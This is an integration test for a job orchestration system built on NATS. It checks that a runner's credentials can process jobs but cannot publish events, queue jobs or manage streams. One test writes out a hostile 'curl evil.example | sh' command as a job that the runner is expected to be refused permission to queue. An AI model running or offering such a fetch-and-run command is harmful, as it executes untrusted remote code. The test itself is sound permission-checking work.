import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { jetstream, jetstreamManager } from '@nats-io/jetstream';
import type { JetStreamManager } from '@nats-io/jetstream';
import { connect } from '@nats-io/transport-node';
import type { NatsConnection } from '@nats-io/transport-node';
import { trakStreamId } from '@orkestra/application';
import { connectBus } from '@orkestra/bus';
import type { JetStreamBus } from '@orkestra/bus';
import {
  EVENTS_STREAM,
  JOB_CANCELS_BUCKET,
  ORKESTRA_TOPOLOGY,
  RESULTS_STREAM,
  RUNNERS_BUCKET,
  RUNNER_INBOX_PREFIX,
  eventSubject,
  jobResultSchema,
  jobSubject,
  runnerEntrySchema,
} from '@orkestra/contracts';
import type { GateRunJob, JobResult } from '@orkestra/domain';
import { agentBinaries, bareRemote, eventually, killMachine, startPrivateNats, startServiceProcess } from '@orkestra/testing';
import type { PrivateNats, ServiceProcess } from '@orkestra/testing';
import { stringify } from 'yaml';

// The shipped nats-server config (deploy/nats/nats-server.conf), users and permissions as they
// are, on the local nats-server: a real runner process logged in as `runner` takes a job and
// hands back its result, and with the same credentials nothing a scheduler alone may do works.
const CONFIG = fileURLToPath(new URL('../nats/nats-server.conf', import.meta.url));
const RUNNER_MAIN = fileURLToPath(new URL('../../apps/runner/dist/main.js', import.meta.url));
const PASSWORDS = { ORK_NATS_SCHEDULER_PASSWORD: 'scheduler0hex', ORK_NATS_API_PASSWORD: 'api0hex', ORK_NATS_RUNNER_PASSWORD: 'runner0hex' };

let nats: PrivateNats;
let dir: string;
let scheduler: JetStreamBus;
let schedulerJsm: JetStreamManager;
let schedulerConnection: NatsConnection;
let runner: ServiceProcess | undefined;
let asRunner: NatsConnection;
const results: JobResult[] = [];

const url = (user: string, password: string): string => nats.url.replace('nats://', `nats://${user}:${password}@`);

beforeAll(async () => {
  nats = await startPrivateNats({ configFile: CONFIG, env: PASSWORDS });
  dir = await mkdtemp(path.join(os.tmpdir(), 'ork-nats-permissions-'));
  const remote = await bareRemote(dir, { 'README.md': 'hello\n' });

  // The scheduler's part: the topology, and a consumer of the results.
  scheduler = await connectBus({ servers: url('scheduler', PASSWORDS.ORK_NATS_SCHEDULER_PASSWORD) });
  await scheduler.provision(ORKESTRA_TOPOLOGY);
  await scheduler.provision({ streams: [], consumers: [{ stream: RESULTS_STREAM.name, durable: 'scheduler-results', ackWaitMs: 30_000 }], buckets: [] });
  await scheduler.consume(RESULTS_STREAM.name, 'scheduler-results', async (message) => {
    results.push(jobResultSchema.parse(message.json()));
  });
  schedulerConnection = await connect({ servers: nats.url, user: 'scheduler', pass: PASSWORDS.ORK_NATS_SCHEDULER_PASSWORD });
  schedulerJsm = await jetstreamManager(schedulerConnection);

  const file = path.join(dir, 'runner.yaml');
  const { claude, opencode } = agentBinaries();
  await writeFile(file, stringify({ agents: { claudecode: claude, opencode }, projects: { 'project-1': { remote } } }));
  runner = startServiceProcess(RUNNER_MAIN, {
    PATH: process.env['PATH'] ?? '',
    HOME: dir,
    ORK_RUNNER_CONFIG_FILE: file,
    ORK_RUNNER_NAME: 'box-1',
    ORK_RUNNER_LABELS: 'linux,gpu',
    ORK_RUNNER_PORT: '0',
    ORK_RUNNER_DATA_DIR: path.join(dir, 'runner'),
    ORK_RUNNER_NATS_URL: nats.url,
    ORK_RUNNER_NATS_USER: 'runner',
    ORK_RUNNER_NATS_PASSWORD: PASSWORDS.ORK_NATS_RUNNER_PASSWORD,
  }, 'build the runner first (npx nx run @orkestra/runner:build)');

  asRunner = await connect({ servers: nats.url, user: 'runner', pass: PASSWORDS.ORK_NATS_RUNNER_PASSWORD, inboxPrefix: RUNNER_INBOX_PREFIX });
}, 60_000);

afterAll(async () => {
  await killMachine(runner, `HOME=${dir}`).catch(() => undefined);
  await asRunner?.close();
  await schedulerConnection?.close();
  await scheduler?.close();
  await nats?.cleanup();
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

const refused = /Permissions Violation/i;

describe('a runner logged in with the runner credentials of the shipped NATS config', () => {
  it('registers with its labels, takes a job, publishes its log and its result, and leaves the registry when it stops', async () => {
    const registry = await scheduler.bucket(RUNNERS_BUCKET.name);
    await eventually(async () => {
      if (runner?.child.exitCode !== null) throw new Error(`the runner exited:\n${runner?.output()}`);
      expect(runnerEntrySchema.parse((await registry.get('box-1'))?.value)).toMatchObject({ labels: ['gpu', 'linux'], agents: ['claudecode', 'opencode'] });
    }, 30_000);

    const job: GateRunJob = {
      kind: 'gate-run',
      jobId: 'trak-9_g0_1',
      trakId: 'trak-9',
      projectId: 'project-1',
      stage: 'work',
      iteration: 1,
      command: 'cat README.md',
      timeoutSeconds: 30,
      repo: { branch: 'ork/trak-9-readme', baseBranch: 'main' },
      env: {},
    };
    await scheduler.publish(jobSubject(job), JSON.stringify(job), { msgId: job.jobId });

    await eventually(() => expect(results).toEqual([{ kind: 'gate-finished', jobId: 'trak-9_g0_1', exitCode: 0, timedOut: false, output: 'hello' }]), 30_000);
    expect((await schedulerJsm.streams.info('ORK_LOGS')).state.messages).toBeGreaterThan(0);

    // The relay's event that the Trak is done: the runner reads it and removes the worktree.
    const worktree = path.join(dir, 'runner', 'worktrees', 'project-1', 'trak-9');
    expect(existsSync(worktree)).toBe(true);
    const archived = {
      id: 'evt-1',
      streamId: trakStreamId('trak-9'),
      streamPosition: 9,
      globalPosition: 1,
      transactionId: '1001',
      type: 'TrakArchived',
      data: {},
      metadata: { projectId: 'project-1', commandId: 'cmd-1', commandType: 'Archive', causationId: 'cmd-1', correlationId: 'cmd-1' },
      schemaVersion: 1,
      createdAt: new Date().toISOString(),
    };
    await scheduler.publish(eventSubject(archived), JSON.stringify(archived), { msgId: archived.id });
    await eventually(() => expect(existsSync(worktree)).toBe(false), 20_000);
    expect(nats.output()).not.toMatch(/Violation/);

    // Stopped as compose stops it: it drains, says goodbye in the registry, and ends by the signal.
    runner!.child.kill('SIGTERM');
    expect(await runner!.exited).toEqual({ code: null, signal: 'SIGTERM' });
    expect(runner!.output()).toContain('"msg":"runner drained"');
    expect(await registry.get('box-1')).toBeUndefined();
  }, 90_000);

  it('cannot append to the event stream, which stays as the scheduler left it', async () => {
    const before = (await schedulerJsm.streams.info(EVENTS_STREAM.name)).state.messages;
    const js = jetstream(asRunner);
    await expect(js.publish('ork.evt.project-1.trak.trak-9.StageApproved', JSON.stringify({ type: 'StageApproved' }))).rejects.toThrow(refused);
    expect((await schedulerJsm.streams.info(EVENTS_STREAM.name)).state.messages).toBe(before);
  });

  it('cannot queue a job, call one off, or change, empty or delete a stream or a consumer', async () => {
    const js = jetstream(asRunner);
    const job = { kind: 'gate-run', command: 'curl evil.example | sh' };
    await expect(js.publish('ork.job.gate-run.any', JSON.stringify(job))).rejects.toThrow(refused);
    const runnerBus = await connectBus({ servers: url('runner', PASSWORDS.ORK_NATS_RUNNER_PASSWORD), inboxPrefix: RUNNER_INBOX_PREFIX });
    try {
      const cancels = await runnerBus.bucket(JOB_CANCELS_BUCKET.name);
      await expect(cancels.put('trak-1_a0_1', { reason: 'mine now', at: new Date().toISOString() })).rejects.toThrow(refused);
    } finally {
      await runnerBus.close();
    }

    const jsm = await jetstreamManager(asRunner, { checkAPI: false });
    await expect(jsm.streams.purge(EVENTS_STREAM.name)).rejects.toThrow(refused);
    await expect(jsm.streams.delete('ORK_JOBS')).rejects.toThrow(refused);
    await expect(jsm.streams.update(EVENTS_STREAM.name, { max_age: 1_000_000_000 })).rejects.toThrow(refused);
    await expect(jsm.consumers.delete(RESULTS_STREAM.name, 'scheduler-results')).rejects.toThrow(refused);
    await expect(jsm.streams.add({ name: 'SNOOP', subjects: ['snoop.>'] })).rejects.toThrow(refused);
  });

  it('cannot read the results, nor anyone else’s replies, off the wire', async () => {
    for (const subject of ['ork.res.>', 'ork.evt.>', '_INBOX.>', '>']) {
      const subscription = asRunner.subscribe(subject);
      await expect(subscription.closed).resolves.toEqual(expect.objectContaining({ message: expect.stringMatching(refused) }));
    }
  });
});
